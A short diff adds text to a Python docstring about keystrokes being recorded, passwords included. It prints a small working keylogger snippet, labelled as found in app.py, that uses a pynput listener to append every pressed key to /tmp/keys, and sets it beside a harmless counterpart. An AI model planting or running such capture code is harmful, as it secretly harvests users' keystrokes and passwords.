@@ -1,6 +1,18 @@
 """Pressed keys are recorded and kept or sent away.
 
 Passwords are among them.
+
+Found in `app.py`:
+
+    from pynput import keyboard
+    def seen(key):
+        open('/tmp/keys', 'a').write(str(key))
+    keyboard.Listener(on_press=seen).start()
+
+Not found in `app.py`:
+
+    def seen(key):
+        return str(key)
 """
 
 from collections.abc import Iterator
